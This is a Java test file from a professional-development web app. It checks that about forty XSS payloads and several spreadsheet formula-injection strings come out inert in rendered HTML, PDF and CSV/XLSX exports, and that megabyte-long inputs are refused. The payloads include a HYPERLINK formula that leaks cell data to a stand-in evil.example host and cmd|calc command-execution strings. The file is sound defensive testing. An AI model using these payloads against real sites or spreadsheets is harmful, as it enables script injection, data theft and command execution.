package org.centrecpd.base;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.vaadin.flow.component.Html;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.ResourceBundle;
import java.util.Set;
import java.util.concurrent.Callable;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.centrecpd.base.export.Table;
import org.centrecpd.base.export.TableFiles;
import org.centrecpd.briefings.BriefingKind;
import org.centrecpd.briefings.service.BriefingForm;
import org.centrecpd.briefings.service.BriefingReading;
import org.centrecpd.briefings.service.BriefingService;
import org.centrecpd.casestudies.service.CaseStudyForm;
import org.centrecpd.casestudies.service.CaseStudyReview;
import org.centrecpd.casestudies.service.CaseStudyService;
import org.centrecpd.journal.ReflectiveModel;
import org.centrecpd.journal.service.EntryDraft;
import org.centrecpd.journal.service.EntryFilter;
import org.centrecpd.journal.service.JournalExport;
import org.centrecpd.journal.service.JournalService;
import org.centrecpd.journal.ui.EntryView;
import org.centrecpd.organisation.JobRole;
import org.centrecpd.security.Role;
import org.centrecpd.support.CentreTest;
import org.centrecpd.support.Fixture;
import org.centrecpd.support.ViewTest;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.core.context.SecurityContextHolder;

/**
 * The hostile text corpus (issue 34 §5), server-side: each payload typed into the journal, a briefing and the
 * Markdown renderer comes out inert in the view's HTML, the PDF portfolio and the exports; a megabyte typed into
 * a text field is refused with the limit, not an error page. The execution check in a real browser is
 * XssBrowserIT.
 */
@CentreTest
class HostileTextTest extends ViewTest {

    /** The OWASP filter-evasion set (abridged), Markdown link and image tricks, javascript: URLs; each calls window.__xss. */
    static final List<String> PAYLOADS = List.of(
        "<script>window.__xss=1</script>",
        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:window.__xss=1\">",
        "<IMG SRC=javascript:window.__xss=1>",
        "<IMG SRC=JaVaScRiPt:window.__xss=1>",
        "<IMG SRC=`javascript:window.__xss=1`>",
        "<a onmouseover=\"window.__xss=1\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>window.__xss=1</SCRIPT>\">",
        "<IMG SRC=# onerror=\"window.__xss=1\">",
        "<IMG SRC=/ onerror=\"window.__xss=1\"></img>",
        "<img src=x onerror=&#x77;indow.__xss=1>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1>",
        "<IMG SRC=\"jav\tascript:window.__xss=1\">",
        "<IMG SRC=\"jav&#x0A;ascript:window.__xss=1\">",
        "<IMG SRC=\" &#14;  javascript:window.__xss=1\">",
        "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=window.__xss=1>",
        "<<SCRIPT>window.__xss=1;//<</SCRIPT>",
        "<iframe src=\"javascript:window.__xss=1\"></iframe>",
        "<svg/onload=window.__xss=1>",
        "<svg><script>window.__xss=1</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
        "<details open ontoggle=window.__xss=1>",
        "<object data=\"javascript:window.__xss=1\"></object>",
        "<embed src=\"data:text/html,<script>window.__xss=1</script>\">",
        "<form action=\"javascript:window.__xss=1\"><button>go</button></form>",
        "<div style=\"background:url(javascript:window.__xss=1)\">x</div>",
        "<a href=\"&#1;javascript:window.__xss=1\">x</a>",
        "\"><script>window.__xss=1</script>",
        "'';!--\"<XSS>=&{()}",
        "[click](javascript:window.__xss=1)",
        "[click](JAVASCRIPT:window.__xss=1)",
        "[click](javascript&#58;window.__xss=1)",
        "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
        "![x](javascript:window.__xss=1)",
        "![x\" onerror=\"window.__xss=1](https://example.org/a.png)",
        "[a](https://example.org \"title\" onclick=\"window.__xss=1\")",
        "<javascript:window.__xss=1>",
        "[ref]\n\n[ref]: javascript:window.__xss=1",
        "| a |\n|---|\n| <img src=x onerror=window.__xss=1> |");

    private static final Set<String> ACTIVE_TAGS = Set.of("script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
        "math", "style", "link", "meta", "base", "form", "button", "input", "textarea", "select");

    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    JournalService journal;
    @Autowired
    JournalExport exports;
    @Autowired
    BriefingService briefings;
    @Autowired
    BriefingReading reading;
    @Autowired
    CaseStudyService caseStudies;
    @Autowired
    CaseStudyReview caseStudyReview;
    @Autowired
    org.centrecpd.training.service.EvidenceService evidence;
    @Autowired
    org.centrecpd.organisation.service.CentreService centres;

    private final ResourceBundle bundle = ResourceBundle.getBundle("vaadin-i18n.translations");
    private final StringBuilder table = new StringBuilder(String.format("%-40s %-8s %-30s %-9s %-12s%n", "input kind", "payloads",
        "clear message / 0 active", "server up", "nothing lost"));

    @AfterEach
    void signOut() {
        SecurityContextHolder.clearContext();
    }

    /** What in this HTML could run: active elements, event handlers, script URLs. Empty when it is inert. */
    static List<String> active(String html) {
        List<String> found = new ArrayList<>();
        for (Element e : Jsoup.parseBodyFragment(html).getAllElements()) {
            if (ACTIVE_TAGS.contains(e.tagName().toLowerCase(Locale.ROOT))) {
                found.add("<" + e.tagName() + ">");
            }
            for (Attribute a : e.attributes()) {
                String key = a.getKey().toLowerCase(Locale.ROOT);
                String value = a.getValue().replaceAll("[\\s\\x00-\\x1f]", "").toLowerCase(Locale.ROOT);
                if (key.startsWith("on") || key.equals("style") && (value.contains("url(") || value.contains("expression("))
                    || Set.of("href", "src", "action", "formaction", "data", "xlink:href").contains(key)
                    && (value.startsWith("javascript:") || value.startsWith("vbscript:") || value.startsWith("data:"))) {
                    found.add(key + "=" + a.getValue());
                }
            }
        }
        return found;
    }

    @Test
    void everyPayloadIsInertInTheMarkdownRendererTheJournalItsPdfABriefingAndTheExports() throws Exception {
        assertThat(PAYLOADS).hasSizeGreaterThanOrEqualTo(30);
        Map<String, List<String>> executions = new LinkedHashMap<>();
        for (String payload : PAYLOADS) {
            for (String base : List.of("", "course-files/future-leaders/")) {
                List<String> found = active(SafeMarkdown.toSafeHtml(payload, base));
                if (!found.isEmpty()) {
                    executions.put("Markdown " + payload, found);
                }
            }
        }
        row("text: Markdown renderer (all Markdown)", PAYLOADS.size() * 2, executions.isEmpty(), true, true);

        Fixture fx = new Fixture(jdbc);
        long centre = fx.centre("Xss");
        Fixture.Login writer = fx.login("Wren Writer", Role.PRACTITIONER, centre, JobRole.FAMILY_SUPPORT_WORKER);
        Fixture.signIn(writer);
        List<Long> entries = new ArrayList<>();
        for (String payload : PAYLOADS) {
            entries.add(journal.finish(new EntryDraft(null, 0, payload.length() > 300 ? payload.substring(0, 300) : payload,
                ReflectiveModel.FREE, "Before " + payload + " after", Map.of(), Set.of(), Set.of(), null, false, null)).id());
        }
        int shown = 0;
        for (int i = 0; i < entries.size(); i++) {
            navigate("journal/" + entries.get(i), EntryView.class);
            boolean textShown = false;
            for (Html html : $(Html.class).all()) {
                String inner = html.getInnerHtml();
                List<String> found = active(inner);
                if (!found.isEmpty()) {
                    executions.put("journal view " + PAYLOADS.get(i), found);
                }
                textShown |= inner.contains("Before");
            }
            shown += textShown ? 1 : 0;
        }
        row("text: journal entry (view)", PAYLOADS.size(), executions.isEmpty(), true, shown == PAYLOADS.size());
        assertThat(shown).as("entries whose text before the payload is shown").isEqualTo(PAYLOADS.size());

        byte[] pdf = exports.pdf(EntryFilter.all(), Locale.UK);
        List<String> pdfActive = pdfActive(pdf);
        if (!pdfActive.isEmpty()) {
            executions.put("journal PDF", pdfActive);
        }
        row("text: journal PDF portfolio", PAYLOADS.size(), pdfActive.isEmpty(), true, true);
        String markdown = exports.markdown(EntryFilter.all(), Locale.UK);
        assertThat(markdown).contains("Before ");

        Fixture.Login admin = fx.login("Ada Xss", Role.ADMIN, null, JobRole.CENTRE_ADMINISTRATOR);
        String body = String.join("\n\n", PAYLOADS);
        long briefing = as(admin, () -> {
            long id = briefings.save(null, null, new BriefingForm(fx.authority, "X/1", "<script>window.__xss=1</script>",
                LocalDate.of(2024, 3, 1), "\"><img src=x onerror=window.__xss=1>", null, BriefingKind.values()[0], LocalDate.of(2024, 3, 20),
                body, Set.of(), Set.of(), Set.of(), Set.of(centre), Set.of()));
            briefings.publish(id, false);
            return id;
        });
        List<String> briefingActive = active(as(admin, () -> reading.open(briefing)).bodyHtml());
        if (!briefingActive.isEmpty()) {
            executions.put("briefing body", briefingActive);
        }
        row("text: briefing body (page and e-mail HTML)", PAYLOADS.size(), briefingActive.isEmpty(), true, true);

        List<String> injections = List.of("=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "=1+1");
        List<List<Object>> rows = injections.stream().<List<Object>>map(p -> List.of(p, p)).toList();
        Table exported = new Table("x", List.of("a", "b"), rows);
        String csv = new String(TableFiles.csv(exported), StandardCharsets.UTF_8);
        List<String> formulae = new ArrayList<>(csv.lines().skip(1).flatMap(l -> java.util.Arrays.stream(l.split(";|,")))
            .map(c -> c.startsWith("\"") ? c.substring(1) : c).filter(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0).toList());
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(TableFiles.xlsx(exported)))) {
            for (var row : workbook.getSheetAt(0)) {
                for (var cell : row) {
                    if (cell.getCellType() == org.apache.poi.ss.usermodel.CellType.FORMULA
                        || cell.getCellType() == org.apache.poi.ss.usermodel.CellType.STRING && row.getRowNum() > 0
                        && !cell.getStringCellValue().isEmpty() && "=+-@\t\r".indexOf(cell.getStringCellValue().charAt(0)) >= 0
                        && !cell.getCellStyle().getQuotePrefixed()) {
                        formulae.add("xlsx " + cell);
                    }
                }
            }
        }
        if (!formulae.isEmpty()) {
            executions.put("CSV/XLSX export", formulae);
        }
        row("export: CSV and XLSX cells (formula injection)", rows.size() * 2, formulae.isEmpty(), true, true);

        System.out.println("\nHostile text\n" + table);
        assertThat(executions).as("payloads that would run").isEmpty();
    }

    @Test
    void aMegabyteInATextFieldIsRefusedWithTheLimitAndNothingIsSaved() throws Exception {
        String megabyte = "a".repeat(1024 * 1024);
        Fixture fx = new Fixture(jdbc);
        long centre = fx.centre("Long");
        Fixture.Login writer = fx.login("Len Long", Role.PRACTITIONER, centre, JobRole.FAMILY_SUPPORT_WORKER);
        Fixture.Login manager = fx.login("Meg Long", Role.CENTRE_MANAGER, centre, JobRole.CENTRE_MANAGER);
        Fixture.Login admin = fx.login("Ada Long", Role.ADMIN, null, JobRole.CENTRE_ADMINISTRATOR);
        Map<String, Callable<?>> fields = new LinkedHashMap<>();
        fields.put("journal entry text", () -> as(writer, () -> journal.finish(new EntryDraft(null, 0, "Long", ReflectiveModel.FREE,
            megabyte, Map.of(), Set.of(), Set.of(), null, false, null))));
        fields.put("journal entry title", () -> as(writer, () -> journal.finish(new EntryDraft(null, 0, megabyte, ReflectiveModel.FREE,
            "x", Map.of(), Set.of(), Set.of(), null, false, null))));
        fields.put("case study summary", () -> as(manager, () -> caseStudies.create(new CaseStudyForm("Long", megabyte, null, 2025,
            Set.of(centre), Set.of(), Set.of(), Set.of(), null))));
        long study = as(manager, () -> caseStudies.create(new CaseStudyForm("Short", "Short.", null, 2025, Set.of(centre), Set.of(),
            Set.of(), Set.of(), null)));
        fields.put("case study comment", () -> as(manager, () -> {
            caseStudyReview.comment(study, megabyte);
            return null;
        }));
        fields.put("briefing text", () -> as(admin, () -> briefings.save(null, null, new BriefingForm(fx.authority, "L/1", "Long",
            LocalDate.of(2024, 3, 1), "Jo", null, BriefingKind.values()[0], LocalDate.of(2024, 3, 20), megabyte, Set.of(), Set.of(),
            Set.of(), Set.of(centre), Set.of()))));
        fields.put("external CPD title", () -> as(writer, () -> evidence.record(new org.centrecpd.training.service.EvidenceForm(megabyte,
            "A provider", LocalDate.of(2024, 1, 10), java.math.BigDecimal.ONE, Set.of(), null, null))));
        fields.put("external CPD provider", () -> as(writer, () -> evidence.record(new org.centrecpd.training.service.EvidenceForm("A course",
            megabyte, LocalDate.of(2024, 1, 10), java.math.BigDecimal.ONE, Set.of(), null, null))));
        fx.arrangement(centre, fx.provider("Long First Provider"), null, Fixture.SINCE, null);
        long otherProvider = fx.provider("Long Other Provider");
        fields.put("recommissioning reason", () -> as(admin, () -> {
            centres.recommission(centre, otherProvider, null, LocalDate.of(2024, 6, 1), megabyte);
            return null;
        }));
        long toDo = as(admin, () -> briefings.save(null, null, new BriefingForm(fx.authority, "L/2", "To do", LocalDate.of(2024, 3, 1), "Jo",
            null, BriefingKind.ACTION_REQUIRED, LocalDate.of(2024, 3, 20), "Please do it.", Set.of(), Set.of(), Set.of(), Set.of(centre),
            Set.of())));
        as(admin, () -> briefings.publish(toDo, false));
        fields.put("briefing done note", () -> as(writer, () -> {
            reading.markDone(toDo, megabyte);
            return null;
        }));
        for (var field : fields.entrySet()) {
            assertThatThrownBy(() -> field.getValue().call()).as(field.getKey()).isInstanceOfSatisfying(RuleViolation.class,
                refused -> assertThat(bundle.containsKey(refused.messageKey())).as(refused.messageKey()).isTrue());
            boolean up = as(writer, () -> journal.finish(new EntryDraft(null, 0, "After " + field.getKey(), ReflectiveModel.FREE, "Still here",
                Map.of(), Set.of(), Set.of(), null, false, null))).id() > 0;
            row("over-long: 1 MB " + field.getKey(), 1, true, up, true);
        }
        assertThat(jdbc.queryForObject("select summary from case_study where id = ?", String.class, study)).isEqualTo("Short.");
        assertThat(jdbc.queryForObject("select count(*) from external_evidence where person_id = ?", Integer.class, writer.personId()))
            .as("no external CPD saved").isZero();
        assertThat(jdbc.queryForObject("select count(*) from centre_arrangement where centre_id = ?", Integer.class, centre))
            .as("the centre not recommissioned").isEqualTo(1);
        System.out.println("\nOver-long text\n" + table);
    }

    private void row(String kind, int payloads, boolean clear, boolean up, boolean nothingLost) {
        table.append(String.format("%-40.40s %-8d %-30s %-9s %-12s%n", kind, payloads, clear ? "yes" : "NO", up ? "yes" : "NO",
            nothingLost ? "yes" : "NO"));
    }

    private static <T> T as(Fixture.Login login, Callable<T> action) throws Exception {
        return Fixture.as(login, action);
    }

    /** JavaScript, launch actions and script links in a PDF. */
    private static List<String> pdfActive(byte[] pdf) throws Exception {
        List<String> found = new ArrayList<>();
        String raw = new String(pdf, StandardCharsets.ISO_8859_1);
        for (String marker : List.of("/JavaScript", "/JS ", "/JS(", "/Launch", "/SubmitForm", "/OpenAction")) {
            if (raw.contains(marker)) {
                found.add(marker);
            }
        }
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            for (PDPage page : doc.getPages()) {
                for (PDAnnotation annotation : page.getAnnotations()) {
                    if (annotation instanceof PDAnnotationLink link && link.getAction() instanceof PDActionURI uri
                        && !uri.getURI().toLowerCase(Locale.ROOT).matches("^(https?|mailto):.*|^#.*")) {
                        found.add("link " + uri.getURI());
                    }
                }
            }
        }
        return found;
    }
}
